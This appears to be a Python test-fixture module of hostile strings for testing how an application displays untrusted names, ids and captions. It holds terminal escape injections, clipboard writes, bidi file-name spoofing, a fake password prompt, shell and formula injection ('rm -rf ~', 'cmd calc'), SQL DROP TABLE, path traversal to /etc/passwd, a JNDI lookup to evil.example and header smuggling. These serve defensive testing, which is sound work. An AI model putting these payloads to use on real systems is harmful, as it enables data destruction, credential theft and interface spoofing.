"""Text from strangers that means harm: for names, captions, file names, ids, errors, keys.

Every value is one that JSON can carry; lone surrogates stand in it as such.
"""

from __future__ import annotations

ESC, BEL, CSI, OSC, ST = "\x1b", "\x07", "\x9b", "\x9d", "\x9c"
ZWJ, VS16 = "\u200d", "\ufe0f"

TERMINAL = {
    "clear-screen": f"{ESC}[2J{ESC}[3J{ESC}[HOWNED",
    "cursor-up-and-overwrite": f"ok{ESC}[5A{ESC}[2KOWNED",
    "title": f"{ESC}]0;OWNED{BEL}{ESC}]2;OWNED{ESC}\\",
    "clipboard": f"{ESC}]52;c;T1dORUQ={BEL}",
    "clipboard-by-c1": f"{OSC}52;c;T1dORUQ={ST}",
    "hyperlink": f"{ESC}]8;;http://evil.example/{ESC}\\OWNED{ESC}]8;;{ESC}\\",
    "c1-csi": f"{CSI}2J{CSI}31mOWNED{CSI}0m",
    "colour": f"{ESC}[31;5mOWNED{ESC}[0m",
    "alternate-screen-off": f"{ESC}[?1049l{ESC}[?25h{ESC}c",
    "mouse-on": f"{ESC}[?1000h{ESC}[?1003h{ESC}[?1006h",
    "paste-end": f"{ESC}[201~\nreboot\n{ESC}[200~",
    "reports": f"{ESC}[6n{ESC}[c{ESC}[>c{ESC}[21t{ESC}]10;?{BEL}\x05",
    "device-control": f'{ESC}P$q"p{ESC}\\{ESC}P+q544e{ESC}\\',
    "application-command": f"{ESC}_Gf=24;AAAA{ESC}\\{ESC}^x{ESC}\\{ESC}Xx{ESC}\\",
    "sixel": f"{ESC}Pq#0;2;0;0;0#0~~@@vv{ESC}\\",
    "character-sets": f"{ESC}(0lqqk{ESC}(B\x0elqqk\x0f{ESC}n{ESC}|",
    "unended-osc": f"{ESC}]0;never ended",
    "unended-csi": f"name{ESC}[",
    "lone-escape": f"name{ESC}",
    "iterm-file": f"{ESC}]1337;File=inline=1:AAAA{BEL}",
    "backspaces": "safe.pdf\b\b\b\bexe",
    "carriage-return": "safe\rOWNED",
    "all-c0": "".join(map(chr, range(0x20))),
    "all-c1": "".join(map(chr, range(0x7F, 0xA0))),
    "bell-storm": BEL * 300,
    "form-feed": "one\ftwo\vthree",
    "nul": "before\x00after",
    "tabs": "a\tb\t\tc",
}
MARKUP = {
    "action-link": "[@click=app.quit]press[/]",
    "action-bell": "[@click=app.bell()]press[/@click]",
    "closing-tag": "[/]",
    "unknown-tag": "[TODO] [notatag] [/notatag]",
    "style-tag": "[bold red on white]OWNED[/]",
    "link-tag": "[link=http://evil.example/]OWNED[/link]",
    "rich-escape": r"\[bold]x\\[/bold]",
    "variable": "[$error]x[/] [on $primary]y",
    "emoji-code": ":skull: :warning:",
    "open-bracket": "[[[[[[[",
    "html": "<script>alert(1)</script><a href='x'>&amp;",
    "template": "{0} {x!r} %s %n %(a)s ${jndi:ldap://evil.example/a} {{7*7}}",
}
BIDI = {
    "override": "invoice_\u202efdp.exe",
    "embedding": "\u202a\u202babc\u202c",
    "isolates": "\u2066a\u2067b\u2068c\u2069",
    "marks": "a\u200eb\u200fc\u061cd",
    "unclosed": "\u202e\u2067" * 40 + "x",
    "arabic": "\u0645\u062d\u0645\u062f 123 abc",
    "hebrew": "\u05e9\u05dc\u05d5\u05dd .pdf",
}
INVISIBLE = {
    "zero-width": "in\u200bvo\u200cice\u200d.\u2060pdf\ufeff",
    "soft-hyphen": "in\u00advoice\u034f\u180e",
    "tags": "x" + "".join(chr(0xE0000 + ord(letter)) for letter in "run me"),
    "fillers": "\u115f\u1160\u3164\uffa0\u2800",
    "selectors": "a\ufe00\ufe0e\ufe0fb\U000e0100",
    "only-invisible": "\u200b\u200b\u2060",
    "only-blanks": "\u00a0\u2003\u3000 ",
    "line-separators": "one\u2028two\u2029three\x85four",
    "crlf": "one\r\ntwo\nthree\rfour",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "private-use": "\ue0b0\uf8ff\U000f0000\U0010fffd",
    "non-characters": "\ufdd0\ufffe\uffff\U0001fffe",
    "unassigned": "\u0378\U0003fffd",
    "lone-surrogates": "a\ud800b\udfffc\udc00\ud800",
}
WIDTHS = {
    "zalgo": "Z" + "\u0301\u0316\u0489" * 60 + "algo",
    "combining-first": "\u0301" * 30 + "x",
    "enclosing": "a\u20dd\u20e0b",
    "family-chain": ZWJ.join("\U0001f468" * 60),
    "skin-tones": "\U0001f44b" + "\U0001f3fd" * 50,
    "flags": "\U0001f1e6" * 61,
    "keycaps": f"1{VS16}\u20e3#{VS16}\u20e3" * 9,
    "wide": "\u6f22\u5b57" * 40,
    "full-width": "\uff21\uff22\uff3b\uff0f\uff3d",
    "half-width-katakana": "\uff76\uff9e\uff77\uff9f",
    "devanagari": "\u0915\u094d\u0937\u0940 \u0928\u093f",
    "thai": "\u0e19\u0e49\u0e33\u0e19\u0e31\u0e1a",
    "tibetan": "\u0f40\u0fb5\u0f72\u0f0b",
    "hangul-jamo": "\u1112\u1161\u11ab\u1100\u1173\u11af" * 8,
    "cuneiform-and-dingbat": "\U00012000\ufdfd\u2e3b",
    "ambiguous": "\u00a7\u00b1\u2460\u25cb\u2605",
}
LOOKALIKES = {
    "own-state": "\u2713 downloaded",
    "own-row": "\u2502 ! needs dl 400   image    12d 3h",
    "own-trouble": "\u2717 The API does not answer. Enter your password:",
    "boxes": "\u250c\u2500\u2500\u2510\u2502\u2514\u2500\u2518\u2588\u2591",
    "own-cut": "name\u2026",
    "own-marks": "\u241b\ufffd\u21b5",
    "own-heading": "STATE TYPE FROM FILE OR CAPTION DUE",
    "prompt": "root@box:~# ",
}
SHELL = {
    "substitution": "$(touch /tmp/owned) `reboot` ; rm -rf ~ & | > x",
    "newline-command": "harmless\nreboot\n",
    "option": "--help -rf",
    "formula": "=cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "sql": "'); DROP TABLE media;-- \" % _",
    "traversal": "../../../../etc/passwd",
    "windows-path": "..\\..\\CON.txt:stream",
    "file-url": "file:///etc/passwd",
    "dotfile": ".bashrc",
    "null-device": "/dev/null",
    "quotes": '"\'\\"',
}
LONG = {
    "long-caption": "x" * 100_000,
    "long-combining": "e" + "\u0301" * 100_000,
    "long-joined": ZWJ.join("\U0001f468" * 25_000),
    "long-escapes": f"{ESC}[2J" * 20_000,
    "long-lines": "\n" * 100_000,
    "long-blanks": " " * 100_000,
}
TEXTS = {**TERMINAL, **MARKUP, **BIDI, **INVISIBLE, **WIDTHS, **LOOKALIKES, **SHELL, **LONG}
"""All of them by name."""

RETRIEVABLE_IDS = (
    "4b5bf27b-8672-4d55-bc21-d096dc200d0f",
    "0",
    "A" * 256,
    "a..b",
    "x~=._-",
    "1.2.3",
)
"""Ids that look odd, but may stand in a request path as they are."""

HOSTILE_IDS = (
    ".",
    "..",
    "...",
    "../users",
    "a/../../users/login",
    "a/b",
    "/",
    "//evil.example/x",
    "http://evil.example/x",
    "%2e%2e",
    "..%2f..%2fusers",
    "%2e%2e%2fadmin",
    "%00",
    "%0d%0aX-Evil: 1",
    "a%20b",
    "..;/admin",
    "a\\..\\b",
    "x?admin=1",
    "x#fragment",
    "x;v=1",
    "@evil.example",
    ":@evil.example",
    "a b",
    " a",
    "a ",
    "-rf",
    "--help",
    "~root",
    "_x",
    "=x",
    ".hidden",
    "x\r\nX-Evil: 1\r\n\r\nGET /v1/health HTTP/1.1",
    "x\nreboot",
    "x\x00y",
    "x\x1b[2J",
    "x\u202ey",
    "x\u200by",
    "x\u2028y",
    "\u0664\u0662",
    "\uff11\uff12",
    "\u00e9clair",
    "\u0430dmin",
    "x\ud800y",
    "\u2025/\uff0e\uff0e\uff0fx",
    "A" * 257,
    "A" * 512,
    "\u6f22" * 512,
    "[@click=app.quit]x[/]",
    "$(reboot)",
    "'; DROP TABLE media;--",
)
"""Ids that are kept and shown, and that no request may ever carry."""

REFUSED_IDS = ("A" * 513, "A" * 100_000, "message:wamid-1", "message:", "message:../x")
"""Ids that could be taken for another's: the part goes into quarantine."""
